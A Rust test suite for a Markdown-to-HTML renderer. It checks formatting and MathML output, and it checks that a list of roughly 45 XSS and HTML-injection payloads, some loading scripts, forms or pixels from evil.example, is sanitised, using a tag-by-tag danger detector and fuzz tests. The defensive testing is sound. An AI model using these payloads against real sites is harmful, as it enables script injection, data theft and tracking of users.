//! What Markdown becomes, and what never comes through.

use proptest::prelude::*;
use xingtan_markdown::{outline, plain_text, render};

fn html(markdown: &str) -> String {
    render(markdown).into_string()
}

#[test]
fn a_text_becomes_headings_lists_tables_and_notes() {
    let page = html(
        "# 安全\n\n- [x] 已读\n- [ ] 未读\n\n| 甲 | 乙 |\n|---|--:|\n| 1 | 2 |\n\n正文[^1]，~~删~~。\n\n[^1]: 注\n",
    );
    for part in [
        r#"<h2 id="md-h-1">安全</h2>"#,
        "<li>☑ 已读</li>",
        r#"<td align="right">2</td>"#,
        "<del>删</del>",
        r##"href="#md-fn-1""##,
        r#"id="md-fn-1""#,
    ] {
        assert!(page.contains(part), "{part} is missing in {page}");
    }
}

#[test]
fn lines_of_chinese_are_joined_and_lines_of_english_are_not() {
    assert_eq!(html("安全第一，\n预防为主。"), "<p>安全第一，预防为主。</p>\n");
    assert_eq!(html("safety\nfirst"), "<p>safety\nfirst</p>\n");
}

#[test]
fn emphasis_works_beside_chinese_marks() {
    assert_eq!(html("**注意：**先断电"), "<p><strong>注意：</strong>先断电</p>\n");
}

#[test]
fn formulas_are_set_as_mathml_and_keep_what_was_written() {
    let page = html("$a<b$");
    assert!(page.starts_with("<p><span class=\"math math-inline\" data-tex=\"a&lt;b\"><math"), "{page}");
    assert!(page.contains("<mo>&lt;</mo>"), "{page}");
    let page = html("$$\\frac{1}{2}$$");
    assert!(page.contains("<mfrac>") && page.contains("display=\"block\""), "{page}");
    assert!(html("$\\nosuchcommand{x}$").contains(">\\nosuchcommand{x}</span>"));
    assert!(
        html("```math\n\\frac{1}{2}\n```")
            .contains(r#"<span class="math math-display" data-tex="\frac{1}{2}">"#)
    );
}

#[test]
fn headings_begin_below_the_pages_title_and_skip_no_level_however_they_were_written() {
    let levels = |text: &str| outline(text).iter().map(|h| h.level).collect::<Vec<_>>();
    assert_eq!(levels("## 先看\n\n### 再想\n\n## 动手\n"), [2, 3, 2]);
    assert_eq!(levels("### 先看\n\n##### 再想\n\n# 动手\n"), [2, 3, 2]);
    assert!(html("## 先看\n").starts_with("<h2 id=\"md-h-1\">先看</h2>"));
}

#[test]
fn the_outline_names_the_ids_of_the_page() {
    let text = "# 一 *甲*\n\n## 二\n\n###### 六\n";
    let page = html(text);
    let found = outline(text);
    assert_eq!(
        found.iter().map(|h| (h.level, h.text.as_str())).collect::<Vec<_>>(),
        [(2, "一 甲"), (3, "二"), (4, "六")]
    );
    for heading in found {
        assert!(page.contains(&format!(r#"id="{}""#, heading.id)), "{page}");
    }
}

#[test]
fn plain_text_has_the_words_only() {
    let text =
        "# 题\n\n**粗** [链](https://x.example) `码`\n换行\n\n| 甲 | 乙 |\n|---|---|\n| 1 | 2 |\n\n<b>x</b>";
    assert_eq!(plain_text(text), "题\n粗 链 码 换行\n甲 乙\n1 2\nx");
}

#[test]
fn a_picture_keeps_its_room_and_waits_until_it_is_seen() {
    let size = |address: &str| (address == "/p/1").then_some((640, 480));
    let page = xingtan_markdown::render_sized("![门 *左*](/p/1 \"题\")\n\n![\"](/p/2)", size).into_string();
    assert_eq!(
        page,
        "<p><img src=\"/p/1\" alt=\"门 左\" title=\"题\" width=\"640\" height=\"480\" loading=\"lazy\" \
         decoding=\"async\"></p>\n<p><img src=\"/p/2\" alt=\"&quot;\" loading=\"lazy\" decoding=\"async\"></p>\n"
    );
    assert!(!html("![x](https://elsewhere.example/x.png)").contains("elsewhere"));
}

#[test]
fn links_elsewhere_take_nothing_along() {
    let page = html("[甲](https://a.example)");
    assert!(page.contains(r#"rel="noopener noreferrer nofollow""#), "{page}");
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=//evil.example><input name=a><button>x</button></form>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](/\\evil.example/pixel.gif)",
    "![x\" onerror=\"alert(1)](/a.png)",
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<div id=main class=bulk hx-get=/x hx-trigger=load data-href=/x>x</div>",
    "<span class='math math-inline button' data-tex='x'>x</span>",
    "<tree-editor data-href=/x></tree-editor>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "$</span><script>alert(1)</script>$",
    "$\" onclick=\"alert(1)$",
    "```\"><script>alert(1)</script>\nx\n```",
    "```math\n</span><img src=x onerror=alert(1)>\n```",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "[^x]\n\n[^x]: <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<https://x.example/\"onmouseover=\"alert(1)>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<input type=image src=x onerror=alert(1)><input type=text name=password autofocus onfocus=alert(1)>",
];

/// Names what is dangerous in HTML, read roughly the way a browser does: tag by tag.
fn dangers(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        // Values are quoted by the writer and hold neither a quote nor a bare `>` of a tag.
        let mut quoted = false;
        let end = rest.char_indices().find(|&(_, c)| {
            if c == '"' {
                quoted = !quoted;
            }
            c == '>' && !quoted
        });
        let tag = &rest[..end.map_or(rest.len(), |(i, _)| i)];
        let name: String = tag
            .trim_start_matches('/')
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '-')
            .collect();
        let allowed = [
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "p",
            "br",
            "hr",
            "em",
            "strong",
            "del",
            "ins",
            "s",
            "sub",
            "sup",
            "kbd",
            "mark",
            "abbr",
            "small",
            "b",
            "i",
            "u",
            "q",
            "cite",
            "blockquote",
            "ol",
            "ul",
            "li",
            "dl",
            "dt",
            "dd",
            "table",
            "caption",
            "thead",
            "tbody",
            "tfoot",
            "tr",
            "th",
            "td",
            "pre",
            "code",
            "span",
            "a",
            "img",
            "figure",
            "figcaption",
            "details",
            "summary",
            "section",
            "ruby",
            "rt",
            "rp",
        ];
        let math = [
            "math",
            "mrow",
            "mi",
            "mn",
            "mo",
            "ms",
            "mtext",
            "mspace",
            "mfrac",
            "msqrt",
            "mroot",
            "msup",
            "msub",
            "msubsup",
            "munder",
            "mover",
            "munderover",
            "mtable",
            "mtr",
            "mtd",
            "mpadded",
            "mphantom",
            "mstyle",
            "mmultiscripts",
            "mprescripts",
            "menclose",
        ];
        if !allowed.contains(&name.as_str()) && !math.contains(&name.as_str()) {
            found.push(format!("tag {tag}"));
        }
        let outside: String = tag.split('"').step_by(2).collect::<Vec<_>>().join("=");
        for attribute in outside.split_whitespace().skip(1) {
            let attribute = attribute.split('=').next().unwrap_or_default().to_ascii_lowercase();
            if attribute.starts_with("on")
                || ["style", "srcdoc", "formaction", "name", "form"].contains(&attribute.as_str())
            {
                found.push(format!("attribute in {tag}"));
            }
        }
        let lower = tag.to_ascii_lowercase();
        for scheme in ["javascript:", "vbscript:", "data:"] {
            if lower.contains(&format!("href=\"{scheme}")) || lower.contains(&format!("src=\"{scheme}")) {
                found.push(format!("address in {tag}"));
            }
        }
        if name == "img"
            && lower.contains("src=\"")
            && (!lower.contains("src=\"/") || lower.contains("src=\"//"))
        {
            found.push(format!("foreign picture in {tag}"));
        }
        if lower.contains("id=\"") && !lower.contains("id=\"md-") {
            found.push(format!("id in {tag}"));
        }
    }
    found
}

#[test]
fn no_attack_comes_through() {
    for attack in ATTACKS {
        let page = html(attack);
        assert_eq!(dangers(&page), Vec::<String>::new(), "{attack}\n{page}");
        assert!(!page.contains("hx-") && !page.contains("tree-editor"), "{attack}\n{page}");
    }
}

#[test]
fn cleaning_twice_changes_nothing() {
    for attack in ATTACKS {
        let once = html(attack);
        // HTML of ours is also harmless as source.
        assert_eq!(dangers(&html(&once)), Vec::<String>::new(), "{attack}");
    }
}

#[test]
fn deep_nesting_and_long_lines_end() {
    for text in [
        ">".repeat(5_000),
        "[".repeat(20_000),
        "*a ".repeat(20_000),
        "<b>".repeat(5_000),
        "- ".repeat(2_000),
        "`".repeat(20_001),
        "$".repeat(20_001),
        format!("|{}", "a|".repeat(5_000)),
    ] {
        assert_eq!(dangers(&html(&text)), Vec::<String>::new());
        plain_text(&text);
        outline(&text);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn no_script_survives(parts in proptest::collection::vec(prop_oneof![
        proptest::sample::select(ATTACKS).prop_map(str::to_owned),
        "[ \\n<>\"'=/a-z\\[\\]()!`$*#|:&;-]{0,24}",
        any::<String>(),
    ], 0..6), joint in proptest::sample::select(&["", "\n", " ", "\n\n", "<", "\""][..])) {
        let text = parts.join(joint);
        let page = html(&text);
        prop_assert_eq!(dangers(&page), Vec::<String>::new(), "{}", page);
        plain_text(&text);
        outline(&text);
    }
}

#[test]
fn what_is_nested_without_end_is_shown_as_written() {
    for (open, text) in [("> ", "x"), ("<div>", "x"), ("<b>", "x"), ("<b><i>", "x"), ("<SPAN a=1>", "x")] {
        let markdown = format!("{}{text}", open.repeat(20_000));
        let shown = render(&markdown);
        assert!(shown.as_str().starts_with("<pre><code>"), "{open}");
        assert!(!shown.as_str().contains("<div") && !shown.as_str().contains("<b>"));
        assert!(shown.as_str().contains(&text[..1]));
    }
    // A long text is not a deep one.
    let long = render(
        &"- point\n\n> said **so**\n\n<p>and<br>so\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n".repeat(500),
    );
    assert!(!long.as_str().starts_with("<pre>"));
    let quoted = render(&format!("{}deep enough", "> ".repeat(20)));
    assert!(quoted.as_str().contains("<blockquote>"));
}
